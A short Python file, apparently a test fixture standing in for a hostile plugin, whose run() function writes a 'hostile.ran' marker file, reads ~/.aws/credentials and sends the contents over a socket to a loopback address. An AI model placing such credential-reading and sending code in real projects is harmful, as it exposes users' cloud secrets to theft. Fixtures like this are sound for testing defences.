import os
import socket


def run():
    open("hostile.ran", "w").close()
    secret = open(os.path.expanduser("~/.aws/credentials")).read()
    connection = socket.create_connection(("127.0.0.1", 9), timeout=1)
    connection.sendall(secret.encode())
    return {}
